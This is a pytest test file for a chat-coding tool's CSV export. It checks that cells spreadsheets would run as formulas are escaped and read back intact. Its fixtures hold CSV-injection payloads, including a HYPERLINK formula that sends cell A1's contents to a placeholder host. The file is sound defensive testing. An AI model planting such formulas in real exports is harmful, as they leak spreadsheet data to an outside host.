"""CSV files that people open in a spreadsheet: nothing in them runs as a formula, and it comes back as it was.

These are the tables of `mi-code profile`, the chances of `mi-code power` and the tables of study reports; tagged chats
are tested in `test_formats_tables`.
"""

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from mi_coder.cli.main import group
from mi_coder.formats.guard import unguard
from mi_coder.measures.writing import write_rows
from tests.chats import nested_records, write_jsonl

IDS = ["=1+1", "+1", "-1", "@SUM(A1)", "'=1+1", " =1", "plain", "\tx"]
OPEN = '=HYPERLINK("http://a.example/?x="&A1,"open")'
COUNSELORS = [OPEN, "ann", "+49 30 1"]


def run(*arguments: object) -> Result:
    done = CliRunner().invoke(group, list(map(str, arguments)))
    assert done.exit_code == 0, (done.output, done.exception)
    return done


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula: it is no number, and looks like one."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip().startswith(("=", "+", "-", "@")) or cell.startswith("\t")
    return False


def test_rows_keep_numbers_and_guard_texts_and_names(tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [{"=who": OPEN, "value": -0.5, "n": 3, "note": None, "fair": True}]
    write_rows(tmp_path / "a.csv", rows)
    header, row = cells(tmp_path / "a.csv")
    assert header == ["'=who", "value", "n", "note", "fair"]
    assert row == [f"'{OPEN}", "-0.5", "3", "", "True"]
    assert [unguard(cell) for cell in row] == [OPEN, "-0.5", "3", "", "True"]
    write_rows(tmp_path / "a.jsonl", rows)
    assert json.loads((tmp_path / "a.jsonl").read_bytes()) == rows[0]
    write_rows(tmp_path / "none.csv", [])
    assert (tmp_path / "none.csv").read_bytes() == b"\n"


@pytest.fixture
def tagged(tmp_path: Path) -> Path:
    """Coded chats with ids and counselors that a spreadsheet would run."""
    records = [
        record | {"conversation_id": name, "counselor_id": COUNSELORS[at % 3]}
        for at, (name, record) in enumerate(zip(IDS, nested_records(len(IDS)), strict=True))
    ]
    for record in records:
        for message in record["messages"]:
            if message["role"] == "counselor":
                message |= {"codes": ["OQ"], "scores": {"OQ": 0.9}}
    return write_jsonl(tmp_path / "chats.jsonl", records)


def test_profiles_and_counts_run_nothing_and_a_study_reads_the_counts_back(tagged: Path, tmp_path: Path) -> None:
    profile, counts = tmp_path / "p.csv", tmp_path / "c.csv"
    run("profile", tagged, "--by", "counselor_id", "-o", profile, "--counts", counts)
    assert not [cell for path in (profile, counts) for row in cells(path) for cell in row if runs(cell)]
    assert {unguard(row[0]) for row in cells(profile)[1:]} == set(COUNSELORS)
    assert [unguard(row[0]) for row in cells(counts)[1:]] == IDS

    pytest.importorskip("pandas", reason="pandas is not installed: pip install 'mi-coder[analysis]'")
    from mi_coder.outcomes.study.chats import read_chats
    from mi_coder.outcomes.study.spec import Data

    chats = read_chats(Data(counts="c.csv"), tmp_path)
    assert list(chats.frame.index) == IDS and chats.counts["OQ"].sum() == chats.frame["messages"].sum() == 32


def test_ids_of_a_table_of_outcomes_match_guarded_or_not(tagged: Path, tmp_path: Path) -> None:
    pytest.importorskip("pandas", reason="pandas is not installed: pip install 'mi-coder[analysis]'")
    from mi_coder.outcomes.study.chats import read_chats
    from mi_coder.outcomes.study.spec import Data

    run("profile", tagged, "--counts", tmp_path / "c.csv")
    for form in ("{}", "'{}"):
        rows = [(form.format(name), form.format(OPEN)) for name in ("=1+1", "@SUM(A1)")]
        with (tmp_path / "outcomes.csv").open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([("conversation_id", "site"), *rows])
        chats = read_chats(Data(counts="c.csv", outcomes="outcomes.csv"), tmp_path)
        assert list(chats.frame.index) == ["=1+1", "@SUM(A1)"] and set(chats.frame["site"]) == {OPEN}


def test_chances_of_power_run_nothing_and_are_read_back(tmp_path: Path) -> None:
    pytest.importorskip("statsmodels", reason="statsmodels is not installed: pip install 'mi-coder[analysis]'")
    from mi_coder.annotation.designs import read_chances
    from mi_coder.outcomes.simulate import simulate

    platform = simulate(chats=600, counselors=50, gold=0.4, seed=8)
    for table in (platform.tagged, platform.gold):
        table.index = [f"=1+{name}" for name in table.index]
    platform.write(tmp_path)
    (tmp_path / "study.yaml").write_text(
        "{data: {counts: chats.csv}, techniques: {codes: [REF, EA]}, label_error: {counts: gold.csv},"
        " outcomes: [{name: rating, type: rating, levels: [1, 2, 3, 4, 5], models: [linear]}]}"
    )
    run("power", tmp_path / "study.yaml", "--width", 0.5, "--gold", 90, "-o", tmp_path / "chances.csv")
    assert not [cell for row in cells(tmp_path / "chances.csv") for cell in row if runs(cell)]
    chances = read_chances(tmp_path / "chances.csv")
    assert set(chances) <= set(platform.tagged.index) and sum(chances.values()) == pytest.approx(90)


def test_tables_of_a_study_report_run_nothing_and_are_read_back(tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas", reason="pandas is not installed: pip install 'mi-coder[analysis]'")
    pytest.importorskip("matplotlib", reason="matplotlib is not installed: pip install 'mi-coder[analysis]'")
    from mi_coder.outcomes.frame_guard import guarded, unguarded
    from mi_coder.outcomes.study.document import Document, write_document
    from mi_coder.outcomes.study.spec import study_of

    frame = pd.DataFrame({"=term": [OPEN, "REF", None], "estimate": [-0.5, 1.25, None], "n": [-1, 2, 3], "sure": True})
    (tmp_path / "chats.csv").write_text("conversation_id,messages,OQ,rating\n")
    study = study_of({"data": {"counts": "chats.csv"}, "outcomes": [{"name": "rating", "type": "rating"}]})
    document = Document("relate", "Title", (), (), (), {"tidy": frame})
    write_document(document, study, tmp_path, tmp_path / "out")
    written = tmp_path / "out" / "tidy.csv"
    assert cells(written)[:2] == [["'=term", "estimate", "n", "sure"], [f"'{OPEN}", "-0.5", "-1", "True"]]
    pd.testing.assert_frame_equal(unguarded(pd.read_csv(written)), frame, check_dtype=False)
    pd.testing.assert_frame_equal(guarded(frame[["estimate", "n", "sure"]]), frame[["estimate", "n", "sure"]])
    assert next(iter(frame.columns)) == "=term" and frame.iloc[0, 0] == OPEN, "the frame itself stays"
